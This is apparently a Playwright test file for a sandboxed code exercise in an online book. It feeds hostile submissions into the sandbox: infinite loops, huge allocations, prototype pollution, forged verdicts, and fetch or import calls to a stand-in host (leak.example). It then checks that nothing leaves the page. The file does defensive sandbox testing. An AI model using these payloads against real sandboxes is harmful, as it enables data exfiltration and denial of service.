import type { Page } from '@playwright/test';
import { expect, test } from './book';
import { Reader } from './reader';

const exercise = '#ex-fb-code-sigmoid';
const right =
  'function sigmoid(z) { return z >= 0 ? 1 / (1 + Math.exp(-z)) : Math.exp(z) / (1 + Math.exp(z)); }';

async function run(page: Page, code: string): Promise<void> {
  const reader = new Reader(page, { id: 'fb-code-sigmoid' });
  await reader.write(code);
  await reader.submit();
}

/** What readers' code must not get away with, and what the page says to it. */
const attacks: readonly { name: string; code: string; says: RegExp }[] = [
  {
    name: 'an endless loop',
    code: 'function sigmoid(z) { for (;;) {} }',
    says: /more than two seconds/,
  },
  {
    name: 'an endless loop outside',
    code: 'for (;;) {}\nfunction sigmoid(z) {}',
    says: /more than two seconds/,
  },
  {
    name: 'an endless recursion',
    code: 'function sigmoid(z) { return sigmoid(z); }',
    says: /0 of 5/,
  },
  {
    name: 'an array of 1e9',
    code: 'function sigmoid(z) { return new Array(1e9); }',
    says: /0 of 5/,
  },
  {
    name: 'fetch',
    code: 'function sigmoid(z) { fetch("https://leak.example/?" + z); return 1; }',
    says: /of 5/,
  },
  {
    name: 'an address in an import',
    code: 'function sigmoid(z) { import("https://leak.example/x.js"); }',
    says: /no import/,
  },
  {
    name: 'importScripts',
    code: 'function sigmoid(z) { importScripts("https://leak.example/x.js"); return 1; }',
    says: /of 5/,
  },
  {
    name: 'a flood of messages',
    code: 'function sigmoid(z) { for (let i = 0; i < 1e5; i++) postMessage(i); return 1; }',
    says: /of 5/,
  },
  {
    name: 'polluted prototypes',
    code: 'Object.prototype.kind = "value"; Object.prototype.value = 0.5; Array.prototype.every = () => true; function sigmoid(z) { return "x"; }',
    says: /0 of 5/,
  },
  {
    name: 'another Math',
    code: 'Math.abs = () => 0; Math.max = () => 1e9; Object.is = () => true; function sigmoid(z) { return 7; }',
    says: /0 of 5/,
  },
  {
    name: 'a forged verdict',
    code: 'onmessage = undefined; self.__reader = () => () => 1; function sigmoid(z) { return 7; }',
    says: /of 5/,
  },
  {
    name: 'self.close()',
    code: 'function sigmoid(z) { self.close(); return 1; }',
    says: /of 5|did not end/,
  },
  { name: 'throw null', code: 'function sigmoid(z) { throw null; }', says: /0 of 5/ },
  {
    name: 'a promise that never settles',
    code: 'function sigmoid(z) { return new Promise(() => {}); }',
    says: /0 of 5/,
  },
  {
    name: 'an async function',
    code: 'async function sigmoid(z) { await new Promise(() => {}); }',
    says: /0 of 5/,
  },
];

test('readers’ code harms nothing, whatever it is', async ({ page }) => {
  test.setTimeout(180_000);
  const sent: string[] = [];
  page.on('request', (request) => sent.push(request.url()));
  await page.goto('en/forward-and-backward/');
  const { origin } = new URL(page.url());
  const verdict = page.locator(`${exercise} .ex-verdict`);
  await page.locator(exercise).scrollIntoViewIfNeeded();
  for (const { name, code, says } of attacks) {
    await run(page, code);
    // The page answers while the code runs.
    expect(
      await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => done(1)))),
    ).toBe(1);
    await expect(verdict.locator('b.is-wrong'), name).toHaveText(says, { timeout: 10_000 });
    await run(page, right);
    await expect(verdict.locator('b.is-right'), `after ${name}`).toBeVisible({ timeout: 10_000 });
  }
  const strange = sent.filter((url) => !url.startsWith(origin) && !url.startsWith('blob:'));
  expect(strange, 'nothing leaves').toEqual([]);
});

test('a million lines of output are cut, and the answer still counts', async ({ page }) => {
  await page.goto('en/forward-and-backward/');
  await page.locator(exercise).scrollIntoViewIfNeeded();
  await run(page, `${right}\nfor (let i = 0; i < 1e6; i++) console.log("line " + i);`);
  await expect(page.locator(`${exercise} b.is-right`)).toBeVisible({ timeout: 10_000 });
  await expect(page.locator(`${exercise} .ex-output`)).toContainText('line 199');
  await expect(page.locator(exercise)).toContainText('too long');
});

test('an error stands at the reader’s own line', async ({ page }) => {
  await page.goto('en/forward-and-backward/');
  await page.locator(exercise).scrollIntoViewIfNeeded();
  await run(
    page,
    'function sigmoid(z: number): number {\n  const a: number = 1;\n  return nothing + a;\n}',
  );
  await expect(page.locator(`${exercise} .ex-cases`)).toContainText('line 3');
  await expect(page.locator(`${exercise} .cm-bad-line`)).toContainText('nothing');
});
